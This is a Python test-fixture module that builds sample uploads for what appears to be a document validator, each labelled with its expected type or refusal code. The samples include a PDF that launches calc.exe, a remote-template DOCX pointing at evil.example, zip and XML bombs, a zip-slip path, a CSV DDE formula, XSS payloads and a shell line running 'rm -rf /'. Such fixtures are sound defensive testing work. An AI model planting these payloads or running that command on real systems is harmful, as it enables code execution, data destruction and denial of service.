"""Files as people and others send them: right ones, wrong ones and poisoned ones, each made when it is asked for."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import pikepdf
import xlsxwriter
from PIL import Image

OOXML = "application/vnd.openxmlformats-officedocument"


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **save: object) -> bytes:
    made = pikepdf.new()
    for _ in range(pages):
        made.add_blank_page()
    if change:
        change(made)
    out = BytesIO()
    made.save(out, **save)
    return out.getvalue()


def pdf_of_size(size: int) -> bytes:
    """A right PDF of about `size` bytes that does not pack."""

    def fill(made: pikepdf.Pdf) -> None:
        noise = b"".join(zlib.crc32(n.to_bytes(4, "big")).to_bytes(4, "big") * 2 for n in range(size // 8))
        made.Root.Noise = made.make_stream(noise)

    return pdf(fill, compress_streams=False)


def _open_action(made: pikepdf.Pdf, **action: object) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(Type=pikepdf.Name.Action, **action)


def pdf_with_script() -> bytes:
    return pdf(lambda made: _open_action(made, S=pikepdf.Name.JavaScript, JS="app.alert(1)"))


def pdf_with_hidden_script() -> bytes:
    """The action in an array in an array, its name written with a number for a letter."""
    plain = pdf(lambda made: made.Root.__setitem__("/Deep", pikepdf.Array([[{"/S": pikepdf.Name.Launch}]])))
    return plain.replace(b"/Launch", b"/L#61unch")


def pdf_that_launches() -> bytes:
    return pdf(lambda made: _open_action(made, S=pikepdf.Name.Launch, F="calc.exe"))


def pdf_with_a_file() -> bytes:
    return pdf(lambda made: made.attachments.__setitem__("skjult.txt", b"hej"))


def pdf_locked() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="kode", owner="ejer"))


def pdf_print_only() -> bytes:
    return pdf(encryption=pikepdf.Encryption(user="", owner="ejer"))


def archive(parts: dict[str, bytes], *, stored: str = "") -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content, ZIP_STORED if name == stored else ZIP_DEFLATED)
    return out.getvalue()


def office(main: str, extra: dict[str, bytes] | None = None) -> bytes:
    types = f'<Types><Override PartName="/main.xml" ContentType="{OOXML}.{main}.main+xml"/></Types>'
    return archive({"[Content_Types].xml": types.encode(), "main.xml": b"<x>indhold</x>"} | (extra or {}))


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return office("wordprocessingml.document", extra)


def docm() -> bytes:
    types = b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    return archive({"[Content_Types].xml": types, "word/vbaProject.bin": b"x"})


def relation(kind: str, target: str) -> bytes:
    return f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'.encode()


def docx_from_afar() -> bytes:
    return docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")})


def docx_with_link() -> bytes:
    return docx({"word/_rels/document.xml.rels": relation("hyperlink", "https://odense.example")})


def docx_that_laughs() -> bytes:
    return docx(
        {"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'}
    )


def docx_bomb() -> bytes:
    return docx({"word/document.xml": b"0" * 210_000_000})


def docx_padlocked() -> bytes:
    content = bytearray(docx())
    for place in range(len(content) - 4):
        if content[place : place + 4] == b"PK\x01\x02":
            content[place + 8] |= 1
    return bytes(content)


def xlsx() -> bytes:
    out = BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        book.add_worksheet().write(0, 0, "Løn")
    return out.getvalue()


def odf(kind: str, manifest: bytes = b"<manifest/>", extra: dict[str, bytes] | None = None) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    parts = {"mimetype": mimetype, "content.xml": b"<x/>", "META-INF/manifest.xml": manifest}
    return archive(parts | (extra or {}), stored="mimetype")


def ole(inside: str = "WordDocument") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + inside.encode("utf-16-le") + b"\0" * 600


def picture(format: str, **save: object) -> bytes:
    out = BytesIO()
    Image.new("RGB", (40, 30), "#0059b3").save(out, format, **save)
    return out.getvalue()


def png_of_a_trillion() -> bytes:
    head = struct.pack(">IIBBBBB", 1_000_000, 1_000_000, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    return (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
        + b"\0\0\0\0IEND\xaeB`\x82"
    )


# What it is: (its name, how it is made, the type it is taken as or the code it is refused with).
SAMPLES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a PDF": ("plan.pdf", pdf, "pdf"),
    "a PDF in capitals": ("PLAN.PDF", pdf, "pdf"),
    "a PDF that only limits printing": ("plan.pdf", pdf_print_only, "pdf"),
    "a Word document": ("plan.docx", docx, "docx"),
    "a Word document with a link": ("plan.docx", docx_with_link, "docx"),
    "a sheet": ("budget.xlsx", xlsx, "xlsx"),
    "slides": ("oplæg.pptx", lambda: office("presentationml.presentation"), "pptx"),
    "an ODF text": ("plan.odt", lambda: odf("text"), "odt"),
    "an ODF sheet": ("budget.ods", lambda: odf("spreadsheet"), "ods"),
    "a PNG": ("skitse.png", lambda: picture("PNG"), "png"),
    "a JPEG": ("foto.jpeg", lambda: picture("JPEG"), "jpg"),
    "text": ("brev.txt", lambda: "Kære styrelse – æøå".encode(), "txt"),
    "text from Windows": ("brev.txt", lambda: "Kære styrelse: æøå".encode("cp1252"), "txt"),
    "a table": ("tal.csv", lambda: b"post;beloeb\nLoen;-20.000,00\n+45 12345678;x\n", "csv"),
    "nothing": ("plan.pdf", bytes, "empty"),
    "half a PDF": ("plan.pdf", lambda: pdf()[:-200], "unreadable"),
    "a PDF in name only": ("plan.pdf", lambda: b"\x01\x02\x03" * 300, "unreadable"),
    "a locked PDF": ("plan.pdf", pdf_locked, "encrypted"),
    "a PDF with a script": ("plan.pdf", pdf_with_script, "pdf_acts"),
    "a PDF with a hidden action": ("plan.pdf", pdf_with_hidden_script, "pdf_acts"),
    "a PDF that starts a program": ("plan.pdf", pdf_that_launches, "pdf_acts"),
    "a PDF with a file in it": ("plan.pdf", pdf_with_a_file, "pdf_holds_files"),
    "a PDF of 2,500 pages": ("plan.pdf", lambda: pdf(pages=2500), "too_complex"),
    "a PDF and a page": ("plan.pdf", lambda: pdf().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1), "mixed"),
    "a PDF and a zip": ("plan.pdf", lambda: pdf() + archive({"x.txt": b"x"}), "mixed"),
    "a page before a PDF": ("plan.pdf", lambda: b"<html>" + pdf(), "not_taken"),
    "a Word document called PDF": ("plan.pdf", docx, "mismatch"),
    "a PDF called Word": ("plan.docx", pdf, "mismatch"),
    "a PDF without an ending": ("plan", pdf, "mismatch"),
    "macros": ("plan.docm", docm, "macros"),
    "macros called docx": ("plan.docx", docm, "macros"),
    "macros in ODF": ("plan.odt", lambda: odf("text", extra={"Basic/Standard/m.xml": b"<x/>"}), "macros"),
    "a program inside": ("plan.docx", lambda: docx({"word/embeddings/oleObject1.bin": b"MZ"}), "macros"),
    "a document from afar": ("plan.docx", docx_from_afar, "fetches"),
    "a billion laughs": ("plan.docx", docx_that_laughs, "unreadable"),
    "a zip bomb": ("plan.docx", docx_bomb, "too_complex"),
    "a zip with a padlock": ("plan.docx", docx_padlocked, "encrypted"),
    "a locked Word document": ("plan.docx", lambda: ole("EncryptedPackage"), "encrypted"),
    "a locked ODF": ("plan.odt", lambda: odf("text", b"<manifest:encryption-data/>"), "encrypted"),
    "old Word": ("plan.doc", ole, "old_office"),
    "a zip": ("alt.zip", lambda: archive({"plan.pdf": b"x"}), "archive"),
    "a zip called Word": ("plan.docx", lambda: archive({"plan.pdf": b"x"}), "archive"),
    "a zip out of its folder": ("plan.docx", lambda: docx({"../../x.xml": b"<x/>"}), "unreadable"),
    "something before a zip": ("plan.docx", lambda: b"PK\x03\x04" + b"MZ" * 50 + docx(), "mixed"),
    "a 7z": ("alt.7z", lambda: b"7z\xbc\xaf\x27\x1c" + b"0" * 90, "not_taken"),
    "a program": ("setup.exe", lambda: b"MZ\x90\0" + b"\0" * 200, "not_taken"),
    "a program called PDF": ("plan.pdf", lambda: b"MZ\x90\0" + b"\0" * 200, "not_taken"),
    "a program for Linux": ("plan.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 200, "not_taken"),
    "two endings": ("faktura.exe.pdf", pdf, "double_extension"),
    "a page": ("side.html", lambda: b"<!doctype html><html></html>", "not_taken"),
    "a page called text": ("side.txt", lambda: b"<!doctype html><script>x</script>", "mixed"),
    "a page in UTF-7 called text": ("side.txt", lambda: b"+ADw-script+AD4-alert(1)", "mixed"),
    "a drawing with script": ("tegning.svg", lambda: b"<svg ><script/></svg>", "not_taken"),
    "a drawing called PNG": ("tegning.png", lambda: b'<svg xmlns="http://www.w3.org/2000/svg"/>', "not_taken"),
    "zeros called text": ("brev.txt", lambda: b"hej\0\0hej", "unreadable"),
    "a program as text": ("brev.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "mixed"),
    "formulas in a table": ("tal.csv", lambda: b"navn;x\n=cmd|'/C calc'!A0;1\n", "formula"),
    "a JPEG and a page": ("foto.jpg", lambda: picture("JPEG", comment=b"<script>alert(1)</script>"), "mixed"),
    "a JPEG and a zip": ("foto.jpg", lambda: picture("JPEG") + archive({"x": b"x"}), "mixed"),
    "half a JPEG": ("foto.jpg", lambda: picture("JPEG")[:-30], "unreadable"),
    "half a PNG": ("skitse.png", lambda: picture("PNG")[:-15], "unreadable"),
    "a PNG and more": ("skitse.png", lambda: picture("PNG") + b"<?php", "mixed"),
    "a PNG of a trillion points": ("skitse.png", png_of_a_trillion, "too_complex"),
    "a GIF": ("foto.gif", lambda: picture("GIF"), "not_taken"),
    "a film": ("film.mp4", lambda: b"\0\0\0\x18ftypmp42" + b"0" * 60, "not_taken"),
}  # fmt: skip
